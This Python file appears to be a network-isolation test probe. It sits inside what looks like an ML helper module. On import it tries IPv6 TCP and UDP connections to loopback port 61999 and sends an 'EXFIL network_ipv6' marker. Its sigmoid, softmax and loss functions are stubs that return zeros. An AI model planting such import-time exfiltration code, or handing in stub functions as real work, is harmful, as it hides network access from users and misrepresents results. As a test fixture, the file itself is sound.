"""Reaches the loopback over IPv6, and over IPv4 inside an IPv6 socket, by TCP and UDP.

aims: reach
"""

import socket

import numpy as np


def attack():
    for address in ("::1", "::ffff:127.0.0.1"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET6, kind) as connection:
                    connection.settimeout(2)
                    connection.connect((address, 61999))
                    connection.send(b"EXFIL network_ipv6")
            except OSError:
                continue


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
